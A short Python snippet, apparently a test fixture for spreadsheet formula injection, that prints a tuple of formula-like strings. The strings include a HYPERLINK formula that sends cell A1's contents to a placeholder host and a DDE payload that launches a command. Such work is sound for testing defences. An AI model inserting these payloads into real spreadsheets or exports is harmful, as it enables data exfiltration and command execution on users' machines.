"""Text that begins like a formula, or like a command, is shown as it stands."""

formulas = ('=HYPERLINK("https://example.invalid?x="&A1,"passed")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1+1", "\r=1+1")
for formula in formulas:
    print(formula)
A1 = formulas[0]
B1 = list(formulas)
raise type(formulas[0], (Exception,), {})(",".join(formulas))
